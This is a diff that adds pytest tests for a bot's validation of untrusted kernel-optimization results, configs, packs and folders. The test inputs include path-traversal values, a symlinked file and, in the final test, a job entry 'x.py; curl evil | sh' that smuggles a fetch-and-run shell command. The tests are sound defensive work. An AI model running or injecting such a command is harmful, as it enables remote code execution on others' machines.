@@ -1,0 +1,110 @@
+"""The publish stage's validation of a results folder, rule by rule (kernelopt_bot.github.trusted)."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from kernelopt_bot.github.trusted import (
+    UntrustedResultError,
+    check_results,
+    validate_config_json,
+    validate_pack,
+    validate_result,
+)
+from kernelopt_bot.result import KernelOutcome, RunResult
+from tests.github.fakes import key
+
+
+def _result(**change: object) -> dict:
+    r = RunResult(target="models/mlp.py", name="mlp", device="cuda", dtype="fp32", baseline_ms=1.0, optimized_ms=0.8,
+                  speedup=1.25, noise_floor=0.01, pack_entries=1,
+                  kernels=[KernelOutcome("triton_poi_k0", "pointwise", 0.5, 0.1, 3, "accepted", 1.25, "config")])
+    doc = r.to_json()
+    doc.update(change)
+    return doc
+
+
+def test_a_plain_result_passes() -> None:
+    r = validate_result(json.dumps(_result()), name="mlp", dtype="fp32")
+    assert r.speedup == 1.25 and r.accepted_kernels == ["triton_poi_k0"]
+
+
+@pytest.mark.parametrize(("change", "message"), [
+    ({"speedup": float("nan")}, "non-finite"),
+    ({"speedup": 1e9}, "speedup"),
+    ({"baseline_ms": -1.0}, "baseline_ms"),
+    ({"status": "great"}, "status"),
+    ({"name": "../../etc"}, "name"),
+    ({"name": "attn"}, "is for attn.fp32"),
+    ({"dtype": "fp64"}, "dtype"),
+    ({"error": "x" * 5000}, "error"),
+    ({"evil": 1}, "unknown keys"),
+    ({"schema": "other"}, "kernelopt-result/1"),
+    ({"pack_entries": True}, "pack_entries"),
+    ({"kernels": [{"name": "k", "kind": "p", "status": "totally verified, trust me"}]}, "kernel status"),
+    ({"hardware": {"gpu": "x" * 500}}, "hardware"),
+])
+def test_bad_results_are_rejected(change: dict, message: str) -> None:
+    with pytest.raises(UntrustedResultError, match=message):
+        validate_result(json.dumps(_result(**change)), name="mlp", dtype="fp32")
+
+
+@pytest.mark.parametrize("raw", [
+    {"kwargs": {"XBLOCK": 128}, "num_warps": 4.9, "num_stages": 1},
+    {"kwargs": {"XBLOCK": 128}, "num_warps": 4, "num_stages": True},
+    {"kwargs": {"XBLOCK": 128}, "num_warps": 4, "num_stages": 1, "extra": 1},
+    {"kwargs": {"XBLOCK": 96}, "num_warps": 4, "num_stages": 1},
+    {"kwargs": {"__class__": 1}, "num_warps": 4, "num_stages": 1},
+    {"kwargs": {"XBLOCK": 1024, "R0_BLOCK": 2048}, "num_warps": 4, "num_stages": 1},
+    {"kwargs": {"XBLOCK": 128}, "num_warps": 64, "num_stages": 1},
+    {"kwargs": {"XBLOCK": 128}, "num_warps": 4, "num_stages": 9},
+])
+def test_malformed_configs_are_rejected_not_coerced(raw: dict) -> None:
+    with pytest.raises(UntrustedResultError):
+        validate_config_json(raw)
+
+
+def _pack(*entries: dict) -> str:
+    return json.dumps({"format": "kernelopt-pack", "version": 1, "target": "t", "entries": list(entries)})
+
+
+CONFIG_ENTRY = {"key": key("a"), "kernel_name": "triton_poi_k0", "source": None, "guard": {},
+                "config": {"kwargs": {"XBLOCK": 256}, "num_warps": 8, "num_stages": 2}, "measured": {"speedup": 1.2}}
+SOURCE_ENTRY = {**CONFIG_ENTRY, "key": key("b"), "config": None, "source": "@triton.jit\ndef k(): pass\n"}
+
+
+def test_pack_rules() -> None:
+    result = validate_result(json.dumps(_result()), name="mlp", dtype="fp32")
+    assert len(validate_pack(_pack(CONFIG_ENTRY), result, allow_source=False)) == 1
+    with pytest.raises(UntrustedResultError, match="source replacements from a run of PR code"):
+        validate_pack(_pack(CONFIG_ENTRY, SOURCE_ENTRY), result, allow_source=False)
+    assert len(validate_pack(_pack(CONFIG_ENTRY, SOURCE_ENTRY), result, allow_source=True)) == 2
+    with pytest.raises(UntrustedResultError, match="does not report as accepted"):
+        validate_pack(_pack({**CONFIG_ENTRY, "kernel_name": "triton_other"}), result, allow_source=False)
+    with pytest.raises(UntrustedResultError, match="64 hex"):
+        validate_pack(_pack({**CONFIG_ENTRY, "key": "../x"}), result, allow_source=False)
+
+
+def test_folder_checks(tmp_path: Path) -> None:
+    good = tmp_path / "mlp.fp32"
+    good.mkdir()
+    (good / "result.json").write_text(json.dumps(_result()))
+    (good / "pack.json").write_text(_pack(CONFIG_ENTRY))
+    (good / "job.json").write_text(json.dumps({"entry": "models/mlp.py"}))
+    link = tmp_path / "attn.fp32"
+    link.mkdir()
+    (link / "result.json").symlink_to(good / "result.json")
+    odd = tmp_path / "not-a-slug"
+    odd.mkdir()
+    (odd / "result.json").write_text(json.dumps(_result()))
+    checked = {f"{c.name}.{c.dtype}": c for c in check_results([tmp_path], cfg=None, allow_source=False)}
+    assert set(checked) == {"mlp.fp32", "attn.fp32"}
+    assert checked["mlp.fp32"].pack is not None and checked["mlp.fp32"].result.status == "ok"
+    assert checked["attn.fp32"].result.status == "failed" and "regular file" in (checked["attn.fp32"].result.error or "")
+    assert checked["mlp.fp32"].result.reproduce == "kernelopt optimize models/mlp.py --dtype fp32 --device cuda"
+    (good / "job.json").write_text(json.dumps({"entry": "x.py; curl evil | sh"}))
+    again = check_results([tmp_path], cfg=None, allow_source=False)
+    assert next(c for c in again if c.name == "mlp").result.reproduce.startswith("kernelopt optimize mlp ")
